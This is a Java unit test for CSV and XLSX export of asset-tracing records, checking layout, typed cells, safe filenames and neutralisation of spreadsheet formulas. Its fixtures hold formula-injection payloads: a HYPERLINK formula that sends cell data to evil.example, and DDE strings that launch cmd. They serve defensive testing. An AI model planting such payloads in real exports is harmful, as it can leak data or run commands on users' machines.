package eu.synergie.gateway.api;

import eu.synergie.core.assets.AssetTrace;
import eu.synergie.core.matching.HolderLookup;
import eu.synergie.core.notice.Asset;
import eu.synergie.core.notice.AssetStatus;
import eu.synergie.core.notice.AssetType;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Currency;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The export read back as a spreadsheet or a CSV reader would: commons-csv for the CSV, POI for the XLSX. Formula
 * injection examples after OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection).
 */
class AssetTraceExportTest {

    private static final UUID NOTICE = UUID.fromString("6f1c2a44-0b7e-4c55-9a71-3d2f9e8b1c01");
    private static final UUID SPANISH = UUID.fromString("0d9e4b7a-5c3f-4e2a-8b16-7a4c9d2e5f02");
    private static final UUID MOROCCAN = UUID.fromString("a3b2c1d0-9e8f-4a7b-8c6d-5e4f3a2b1c03");
    private static final Currency EUR = Currency.getInstance("EUR");
    private static final Currency MAD = Currency.getInstance("MAD");
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Details\")";
    private static final AssetTraceExport.Provenance BY = new AssetTraceExport.Provenance("claire.martin (FR-DGPN)",
            "OCRGDF-2026-0412", Instant.parse("2026-12-06T12:00:00.123Z"));

    @Test
    void csvStartsWithAByteOrderMarkThenHeaderAssetsTotalsPointersAndAbout() throws IOException {
        byte[] bytes = AssetTraceExport.csv(trace(), BY);

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        List<CSVRecord> records = parse(bytes);
        assertThat(records.getFirst().toList()).isEqualTo(AssetTraceExport.COLUMNS).hasSize(15);
        assertThat(records.subList(1, 6)).allSatisfy(r -> assertThat(r.size()).isEqualTo(15));

        CSVRecord subject = records.get(1);
        assertThat(subject.get(0)).as("UTF-8 kept").isEqualTo("Atlas Inversiones Marbella S.L.");
        CSVRecord villa = records.get(2);
        assertThat(villa.toList()).containsExactly("Villa Las Lomas, Marbella", "REAL_ESTATE", "ES", "FROZEN",
                "cadastralRef 9872023VH5797S0001WX", "1250000.00", "EUR", "2026-10-15", "Registro de la Propiedad",
                "1250000.00", "EUR", "60", "2", "Karim BENSAÏD → Atlas Inversiones Marbella S.L. → Villa Las Lomas, Marbella",
                "ES-CNP UDEF-2026-118; FR-DGPN OCRGDF-2026-0412");
        CSVRecord flat = records.get(3);
        assertThat(flat.get(5)).isEqualTo("3200000");
        assertThat(flat.get(6)).isEqualTo("MAD");
        assertThat(flat.get(9)).as("no rate, no converted value").isEmpty();

        assertThat(records.get(6).toList()).as("an empty line before the totals").containsExactly("");
        assertThat(records.get(7).toList()).containsExactly("total", "1250000.00", "EUR");
        assertThat(records.get(8).toList()).containsExactly("attributable", "750000.00", "EUR");
        assertThat(records).anySatisfy(r -> assertThat(r.toList()).containsExactly("missing rate",
                "no rate for MAD on 2026-12-04"));
        assertThat(records).anySatisfy(r -> assertThat(r.toList()).containsExactly("by jurisdiction", "ES", "1250000.00", "EUR"));
        assertThat(records).anySatisfy(r -> assertThat(r.toList()).containsExactly("held by", "MA-DGSN", "DNPJ-2026-91",
                "IMO:9074729"));
        assertThat(records).anySatisfy(r -> assertThat(r.toList()).containsExactly("Purpose", "OCRGDF-2026-0412"));
        assertThat(records.getLast().toList()).containsExactly(AssetTraceExport.SCOPE);
    }

    @Test
    void csvNeutralisesFormulasInTextCellsOnly() throws IOException {
        List<CSVRecord> records = parse(AssetTraceExport.csv(trace(), BY));

        assertThat(records.get(4).get(0)).isEqualTo("'" + HYPERLINK);
        assertThat(records.get(4).get(8)).as("a DDE payload in the value's source").isEqualTo("'@SUM(1+9)*cmd|' /C calc'!A0");
        assertThat(records.get(5).get(0)).isEqualTo("'=1+1");
        assertThat(records.get(2).get(5)).as("numbers stay numbers").isEqualTo("1250000.00");
    }

    @Test
    void textPrefixesWhatASpreadsheetWouldRunAndNothingElse() {
        assertThat(AssetTraceExport.text("=1+1")).isEqualTo("'=1+1");
        assertThat(AssetTraceExport.text("+33 6 12 34 56 78")).isEqualTo("'+33 6 12 34 56 78");
        assertThat(AssetTraceExport.text("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(AssetTraceExport.text("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(AssetTraceExport.text("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(AssetTraceExport.text("\r=1+1")).isEqualTo("'\r=1+1");

        assertThat(AssetTraceExport.text("Karim BENSAÏD")).isEqualTo("Karim BENSAÏD");
        assertThat(AssetTraceExport.text("a=b")).isEqualTo("a=b");
        assertThat(AssetTraceExport.text("'quoted")).isEqualTo("'quoted");
        assertThat(AssetTraceExport.text(null)).isEmpty();
    }

    @Test
    void xlsxHasTheFourSheetsWithTypedCells() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(AssetTraceExport.xlsx(trace(), BY)))) {
            assertThat(List.of(workbook.getSheetName(0), workbook.getSheetName(1), workbook.getSheetName(2),
                    workbook.getSheetName(3))).containsExactly("Assets", "Totals", "Pointers", "About");
            assertThat(workbook.getNumberOfSheets()).isEqualTo(4);

            XSSFSheet assets = workbook.getSheet("Assets");
            Row header = assets.getRow(0);
            assertThat(cells(header)).isEqualTo(AssetTraceExport.COLUMNS);
            assertThat(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
            assertThat(assets.getPaneInformation().isFreezePane()).isTrue();
            assertThat(assets.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(assets.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:O6");
            assertThat(assets.getColumnWidth(13)).isEqualTo(60 * 256);

            Row villa = assets.getRow(2);
            Cell value = villa.getCell(5);
            assertThat(value.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(value.getNumericCellValue()).isEqualTo(1_250_000.0);
            assertThat(value.getCellStyle().getDataFormatString()).isEqualTo("#,##0.00");
            assertThat(villa.getCell(11).getNumericCellValue()).isEqualTo(60.0);
            Cell date = villa.getCell(7);
            assertThat(DateUtil.isCellDateFormatted(date)).isTrue();
            assertThat(date.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2026, 10, 15));
            assertThat(assets.getRow(3).getCell(9)).as("no rate, no converted value").isNull();
            assertThat(assets.getRow(1).getCell(0).getStringCellValue()).isEqualTo("Atlas Inversiones Marbella S.L.");

            Sheet totals = workbook.getSheet("Totals");
            assertThat(totals.getRow(0).getCell(1).getNumericCellValue()).isEqualTo(1_250_000.0);
            assertThat(totals.getRow(1).getCell(1).getNumericCellValue()).isEqualTo(750_000.0);
            assertThat(totals.getRow(4).getCell(1).getStringCellValue()).isEqualTo("no rate for MAD on 2026-12-04");

            assertThat(cells(workbook.getSheet("Pointers").getRow(1))).containsExactly("MA-DGSN", "DNPJ-2026-91",
                    "IMO:9074729");

            Map<String, String> about = new LinkedHashMap<>();
            for (Row row : workbook.getSheet("About")) {
                about.put(row.getCell(0).getStringCellValue(), row.getCell(1) == null ? null : row.getCell(1).getStringCellValue());
            }
            assertThat(about).containsEntry("Subject", "Karim BENSAÏD").containsEntry("Notice id", NOTICE.toString())
                    .containsEntry("Entity ref", "p1").containsEntry("Currency", "EUR").containsEntry("Rate date", "2026-12-04")
                    .containsEntry("Depth", "4").containsEntry("Generated at (UTC)", "2026-12-06 12:00:00 UTC")
                    .containsEntry("Exported by", "claire.martin (FR-DGPN)").containsEntry("Purpose", "OCRGDF-2026-0412")
                    .containsEntry(AssetTraceExport.SCOPE, null);
        }
    }

    @Test
    void xlsxWritesFormulaLookingLabelsAsStringsNeverFormulas() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(AssetTraceExport.xlsx(trace(), BY)))) {
            Cell one = workbook.getSheet("Assets").getRow(5).getCell(0);
            assertThat(one.getCellType()).isEqualTo(CellType.STRING);
            assertThat(one.getStringCellValue()).as("shown as typed, not prefixed").isEqualTo("=1+1");
            assertThat(workbook.getSheet("Assets").getRow(4).getCell(0).getCellType()).isEqualTo(CellType.STRING);
        }
    }

    @Test
    void formatIsCsvOrXlsxInAnyCaseAndNothingElse() {
        assertThat(AssetTraceExport.Format.of("csv")).isEqualTo(AssetTraceExport.Format.CSV);
        assertThat(AssetTraceExport.Format.of(" XLSX ")).isEqualTo(AssetTraceExport.Format.XLSX);
        assertThat(AssetTraceExport.Format.XLSX.mediaType)
                .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        for (String wrong : new String[] {"pdf", "xls", "", null}) {
            assertThatThrownBy(() -> AssetTraceExport.Format.of(wrong)).isInstanceOf(InvalidQueryException.class)
                    .hasMessage("format must be csv or xlsx");
        }
    }

    @Test
    void filenameNamesTheNoticeAndRefWithSafeCharactersOnly() {
        assertThat(AssetTraceExport.filename(trace(), AssetTraceExport.Format.XLSX))
                .isEqualTo("assets-" + NOTICE + "-p1.xlsx");
        AssetTrace odd = new AssetTrace(new AssetTrace.Subject(NOTICE, "p 1\"/x", "PERSON", "X"), EUR, LocalDate.of(2026, 12, 4),
                4, List.of(), totals(), List.of(), 0, List.of(), false, List.of(), List.of());
        assertThat(AssetTraceExport.filename(odd, AssetTraceExport.Format.CSV)).isEqualTo("assets-" + NOTICE + "-p_1__x.csv");
    }

    private static List<CSVRecord> parse(byte[] bytes) throws IOException {
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try (CSVParser parser = CSVParser.parse(new StringReader(text.substring(1)), CSVFormat.RFC4180)) {
            return parser.getRecords();
        }
    }

    private static List<String> cells(Row row) {
        List<String> values = new ArrayList<>();
        row.forEach(c -> values.add(c.getStringCellValue()));
        return values;
    }

    /**
     * Karim BENSAÏD owns 60 % of a Spanish company owning a villa in EUR, a flat in Marrakech valued in MAD for which
     * there is no rate, and two assets with hostile labels; MA-DGSN holds something on a vessel he owns.
     */
    private static AssetTrace trace() {
        String karim = "Karim BENSAÏD";
        String atlas = "Atlas Inversiones Marbella S.L.";
        AssetTrace.Source spain = new AssetTrace.Source(SPANISH, "ES-CNP", "UDEF-2026-118");
        AssetTrace.Source france = new AssetTrace.Source(NOTICE, "FR-DGPN", "OCRGDF-2026-0412");
        AssetTrace.Source morocco = new AssetTrace.Source(MOROCCAN, "MA-DGSN", "DNPJ-2026-77");
        List<AssetTrace.TracedAsset> assets = List.of(
                new AssetTrace.TracedAsset(atlas, AssetType.COMPANY, "ES", AssetStatus.IDENTIFIED,
                        Map.of("companyNumber", "B93123456"), null, null, new BigDecimal("60"), 1, List.of(karim, atlas),
                        List.of(spain)),
                new AssetTrace.TracedAsset("Villa Las Lomas, Marbella", AssetType.REAL_ESTATE, "ES", AssetStatus.FROZEN,
                        Map.of("cadastralRef", "9872023VH5797S0001WX"),
                        new Asset.Valuation(new BigDecimal("1250000.00"), EUR, LocalDate.of(2026, 10, 15), "Registro de la Propiedad"),
                        new BigDecimal("1250000.00"), new BigDecimal("60"), 2,
                        List.of(karim, atlas, "Villa Las Lomas, Marbella"), List.of(spain, france)),
                new AssetTrace.TracedAsset("Appartement Guéliz, Marrakech", AssetType.REAL_ESTATE, "MA", AssetStatus.IDENTIFIED,
                        Map.of(), new Asset.Valuation(new BigDecimal("3200000"), MAD, LocalDate.of(2026, 9, 1), null),
                        null, new BigDecimal("100"), 1, List.of(karim, "Appartement Guéliz, Marrakech"), List.of(morocco)),
                new AssetTrace.TracedAsset(HYPERLINK, AssetType.CASH, "FR", AssetStatus.SEIZED, Map.of(),
                        new Asset.Valuation(new BigDecimal("0"), EUR, LocalDate.of(2026, 11, 2), "@SUM(1+9)*cmd|' /C calc'!A0"),
                        BigDecimal.ZERO, null, 1, List.of(karim, HYPERLINK), List.of(france)),
                new AssetTrace.TracedAsset("=1+1", AssetType.OTHER, "FR", AssetStatus.IDENTIFIED, Map.of(), null, null,
                        null, 1, List.of(karim, "=1+1"), List.of(france)));
        List<HolderLookup.Pointer> pointers = List.of(new HolderLookup.Pointer("IMO:9074729", "MA-DGSN",
                "DNPJ-2026-91"));
        return new AssetTrace(new AssetTrace.Subject(NOTICE, "p1", "PERSON", karim), EUR, LocalDate.of(2026, 12, 4), 4,
                assets, totals(), pointers, 0, List.of(), false, List.of(NOTICE, SPANISH, MOROCCAN), List.of());
    }

    private static AssetTrace.Totals totals() {
        return new AssetTrace.Totals(3, new BigDecimal("1250000.00"), new BigDecimal("750000.00"),
                Map.of("ES", new BigDecimal("1250000.00")), Map.of("REAL_ESTATE", new BigDecimal("1250000.00")),
                Map.of("FROZEN", new BigDecimal("1250000.00")), 2, List.of("no rate for MAD on 2026-12-04"));
    }
}
